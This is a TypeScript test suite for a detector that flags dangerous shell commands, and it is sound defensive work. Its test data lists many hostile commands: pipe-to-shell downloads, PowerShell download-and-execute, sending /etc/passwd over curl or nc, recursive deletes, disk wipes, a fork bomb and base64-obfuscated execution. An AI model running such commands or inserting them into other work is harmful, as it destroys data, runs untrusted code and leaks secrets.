import assert from "node:assert/strict";
import { test } from "node:test";
import { dangersOf } from "../../src/refactor/dangers.ts";
import type { Danger } from "../../src/refactor/knownDangers.ts";
import { simpleCommands, stepsIn } from "../../src/refactor/shellWords.ts";

const dangerous: Readonly<Record<Danger, readonly string[]>> = {
  deletes: [
    "rm -rf build",
    "rm file.txt",
    "/bin/rm -r x",
    "\\rm -rf x",
    "r\\m -rf x",
    "r''m -rf x",
    '"rm" -rf x',
    "sudo -u root rm -fr x",
    "env A=1 timeout 5 rm -r x",
    "ls; rm -rf ~",
    "ls && (cd a && rm -rf b)",
    "if true; then rm -rf x; fi",
    "{ rm -rf x; }",
    "echo $(rm -rf x)",
    'echo "`rm -rf x`"',
    'bash -c "rm -rf x"',
    "sh -xc 'rm -rf x'",
    "ssh -A host 'rm -rf x'",
    "find . -name '*.o' -delete",
    "find . -name a -exec rm {} \\;",
    "find . | xargs rm -rf",
    "Remove-Item -Recurse -Force x",
    "rd /s /q build",
    "del /s *.tmp",
    "rmdir /s build",
    "npx rimraf dist",
    "rsync -a --delete a/ b/",
  ],
  "erases-disk": [
    "mkfs.ext4 /dev/sda1",
    "dd if=a.iso of=/dev/sdb bs=4M",
    "cat a.img > /dev/sda",
    "wipefs -a /dev/sdb",
    "C:\\Windows\\System32\\format.com C:",
    "Format-Volume -DriveLetter D",
  ],
  "runs-download": [
    "curl -fsSL https://x.sh | sh",
    "curl x | sudo bash",
    "wget -qO- x | python3",
    "bash <(curl x)",
    'sh -c "$(curl -fsSL x)"',
    'eval "$(wget -O- x)"',
    "source <(curl x)",
    "iwr x | iex",
    "iex (New-Object Net.WebClient).DownloadString('x')",
  ],
  "rewrites-history": [
    "git push --force",
    "git push -f origin main",
    "git push --force-with-lease",
    "git push origin +main",
    "git push origin --delete main",
    "git -C a filter-branch --all",
  ],
  "discards-changes": [
    "git reset --hard HEAD~1",
    "git clean -fdx",
    "git checkout -- .",
    "git checkout .",
    "git restore src",
    "git branch -D old",
    "git stash drop",
  ],
  "opens-permissions": ["chmod -R 777 .", "chmod 777 a", "chmod a+w a", "chmod u+s a", "chown -R me /opt"],
  "drops-data": [
    'psql -c "DROP TABLE users"',
    "mysql -e 'drop database shop'",
    "DELETE FROM users;",
    "psql -c 'TRUNCATE users'",
    "redis-cli FLUSHALL",
    "dropdb shop",
    "npx prisma migrate reset",
  ],
  "as-administrator": ["sudo apt install x", "su -c 'ls'", "doas ls", "ls | sudo tee a", "Start-Process x -Verb RunAs"],
  "stops-machine": ["shutdown -h now", "reboot", "killall node", "kill -9 -1", ":(){ :|:& };:"],
  "overwrites-system": ["echo x > /etc/hosts", "echo x >> ~/.bashrc", "echo x | tee /etc/hosts", "cp a /usr/bin/b"],
  "sends-files": ["curl -F file=@a x", "curl -d @/etc/passwd http://x", "nc host 80 < a", "scp a host:"],
  "destroys-cloud": [
    "terraform destroy",
    "kubectl delete ns x",
    "docker system prune -a",
    "aws s3 rm s3://b --recursive",
  ],
  publishes: ["npm publish", "cargo publish", "npm unpublish x --force"],
  "runs-code": ["cat a.sh | sh", "python3 -c 'f()'", "crontab - < a"],
  disguised: ["$(echo rm) -rf /", "X=rm; $X -rf /", "eval $CMD", "powershell -enc AAAA", "echo cm0= | base64 -d | sh"],
};
const shellOf = (line: string): string => (line.startsWith("C:") ? "cmd" : "bash");
for (const [danger, lines] of Object.entries(dangerous))
  for (const line of lines)
    test(`${danger}: ${line}`, () => {
      const told = dangersOf(line, shellOf(line));
      assert.ok(told.includes(danger as Danger), told.join() || "nothing is warned of");
    });

for (const line of [
  "ls -la",
  "npm test && npm run build",
  "grep -rn foo src | wc -l",
  "du -sh * | sort -h | tail -5",
  'echo "rm -rf /"',
  "echo 'a; rm -rf /'",
  "ls # rm -rf /",
  "git push -u origin main",
  "git checkout main",
  "git log --format=%h",
  "git commit -m 'drop the table of contents'",
  "chmod +x run.sh",
  "chmod 755 a",
  "curl -s https://api.example.com/a | jq .",
  "curl -O https://example.com/a.tgz",
  "find . -size +10M",
  "kill 1234",
  "docker ps -a",
  "docker run --rm node node -v",
  "awk '{print $1}' x",
  "python3 -m pytest -x",
  "cargo test 2>&1 | tail",
  "make > /dev/null 2>&1",
])
  test(`nothing is warned of: ${line}`, () => assert.deepEqual(dangersOf(line, "bash"), []));

test("commands are told apart as a shell does it", () => {
  const words = (line: string): readonly string[] =>
    simpleCommands(line, "posix").map((command) => command.words.join(" "));
  assert.deepEqual(words("a 'b c' && d|e; f & g"), ["a b c", "d", "e", "f", "g"]);
  assert.deepEqual(words('echo "a; b" $(c d) `e`'), ["echo a; b $(…) $(…)", "c d", "e"]);
  assert.deepEqual(
    simpleCommands("a 2>&1 > out.txt < in | b <<< 'c d'; e | f", "posix").map(({ words, writesTo, input, given }) => [
      words.join(" "),
      writesTo.join(" "),
      input,
      given,
    ]),
    [
      ["a", "1 out.txt", "file", ""],
      ["b", "", "file", "c d"],
      ["e", "", undefined, ""],
      ["f", "", "pipe", ""],
    ],
  );
});

test("a pipe is one step, what is inside of another command is none", () => {
  assert.equal(stepsIn("a | b | c", "posix"), 1);
  assert.equal(stepsIn("a && b || c; d", "posix"), 4);
  assert.equal(stepsIn("echo $(a; b) 'c; d'", "posix"), 1);
});

test("what no shell could read is read to its end", () => {
  for (const line of [
    "'",
    '"',
    "$(",
    "`",
    "<(",
    "\\",
    "((((",
    "))))",
    "a >",
    "| | |",
    "&&",
    "$(".repeat(200),
    "find -exec ".repeat(200),
    "(){|".repeat(500),
    "| sh rm | sh eval | sh $(xargs ".repeat(60),
    "rm < f awk 'rm alias a=rm find . -exec rm \"rm python -c | sh ".repeat(30),
  ])
    for (const shell of ["bash", "pwsh", "cmd"]) assert.ok(Array.isArray(dangersOf(line, shell)), line);
});
